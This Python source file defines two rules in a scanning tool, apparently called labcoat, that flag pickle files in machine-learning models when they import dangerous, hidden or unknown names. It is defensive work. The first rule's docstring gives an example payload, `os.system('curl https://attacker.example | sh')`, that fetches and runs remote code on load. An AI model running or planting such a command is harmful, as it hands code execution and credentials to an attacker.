"""What pickles import and call when they are loaded."""

from __future__ import annotations

from labcoat.core.rule import rule

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from labcoat.core.models.inspection import Import
    from labcoat.core.models.model import Model
    from labcoat.core.rule import Hit, Options

_SAFER = "save the weights as safetensors and whatever else it needs as JSON (scikit-learn: skops)"
_DONE = {"called": "calls", "constructed": "makes", "built": "restores", "imported": "imports"}


@rule("critical", looks_at="model")
def dangerous_pickle_import(model: Model, options: Options) -> Iterator[Hit]:
    """A pickle imports or calls what runs code, or hides what it imports.

    What it does
    ------------
    Reads the opcodes of every pickle in a model file (PyTorch, joblib, NumPy, in archives of any depth) and reports
    names that run commands or code, open files or connections, load another pickle, or call or reach what they are
    given. So are names that are hidden: dotted paths (`random:_os.system`), names that are computed when the file is
    loaded, codes of the extension registry, `__setstate__` put into a state. The message says what would run.

    Files of cloudpickle and dill carry Python code of their own, and are reported with the severity high. Names on the
    option `allow` are reported all the same; a file that is trusted belongs below `[tool.labcoat.per-file-ignores]`,
    or into the baseline.

    Why is this bad?
    ----------------
    Loading a pickle calls whatever it names, before anyone sees what is in it: a downloaded model then runs as a
    program does, with the rights and the keys of whoever loads it.

    Example
    -------
    A `model.pkl` that calls `os.system('curl https://attacker.example | sh')` when it is loaded.

    Use instead
    -----------
    Do not load it. Ask for the weights as safetensors, or for the code that made the file.

    References
    ----------
    - https://docs.python.org/3/library/pickle.html
    - https://cwe.mitre.org/data/definitions/502.html
    - https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face
    """
    from labcoat.model_files.hits import hit
    from labcoat.model_files.names.dangers import OWN

    if not model.imports:
        return
    from labcoat.model_files.names.judge import DANGEROUS

    for imported, kind, what in _judged(model, options):
        if kind == DANGEROUS:
            message, severity = _dangerous(imported, what), "high" if what == OWN else ""
            subject = _subject(imported) + _others(imported)
            yield hit(model.document, imported.place, subject, message, f"do not load it; {_SAFER}", severity)


@rule("high", looks_at="model")
def unknown_pickle_import(model: Model, options: Options) -> Iterator[Hit]:
    """A pickle imports a name that labcoat does not know.

    What it does
    ------------
    Reports the names in pickles that are on no list: neither among those of the libraries that models are made of,
    nor among those that are known to do harm. Functions and classes that are called are known by their exact names;
    classes of these libraries are also known by their form where the pickle only makes objects of them and restores
    their state, calling nothing.

    Why is this bad?
    ----------------
    Loading the file imports the module and calls what is named. Lists of bad names are always behind: of 80 harmful
    functions of common packages that were on nobody's list, scanners that look for bad names found between 2 and 36.

    Example
    -------
    A `model.pkl` of an object of the class `my_package.models.Net`.

    Use instead
    -----------
    Save the weights as safetensors, and make the object in code. A class of your own, or of a library that you trust,
    is allowed by its exact name, for all it is used for:

        [tool.labcoat.model-files]
        allow = ["my_package.models.Net"]

    References
    ----------
    - https://docs.python.org/3/library/pickle.html
    - https://arxiv.org/abs/2508.15987
    """
    from labcoat.model_files.hits import hit

    if not model.imports:
        return
    from labcoat.model_files.names.judge import UNKNOWN

    for imported, kind, what in _judged(model, options):
        if kind == UNKNOWN:
            name = f"{imported.module}.{imported.name}"
            why = f"which {what}" if what else "which labcoat does not know"
            message = f"{_DONE[imported.use]} `{_subject(imported)}`, {why}"
            yield hit(model.document, imported.place, name, message, _way_out(name))


def _judged(model: Model, options: Options) -> Iterator[tuple[Import, str, str]]:
    """Every import with the verdict over it."""
    from labcoat.model_files.names.judge import judge

    allowed = frozenset(options.get("allow", ()))
    for imported in model.imports:
        verdict = judge(imported, allowed)
        yield imported, verdict.kind, verdict.what


def _subject(imported: Import) -> str:
    return imported.call or f"{imported.module}.{imported.name}"


def _others(imported: Import) -> str:
    """What other calls of the name have for arguments: accepting one call accepts no other."""
    others = [value for distinct in imported.arguments for value in distinct[1:]]
    return f", and with {', '.join(others)}" if others and imported.call else ""


def _dangerous(imported: Import, what: str) -> str:
    when = " when it is loaded" if imported.use == "called" else ""
    return f"{_DONE[imported.use]} `{_subject(imported)}`{_others(imported)}{when}: it {what}"


def _way_out(name: str) -> str:
    line = f'`allow = ["{name}"]` below `[tool.labcoat.model-files]`'
    return f"if you know it, {line}; else {_SAFER}"
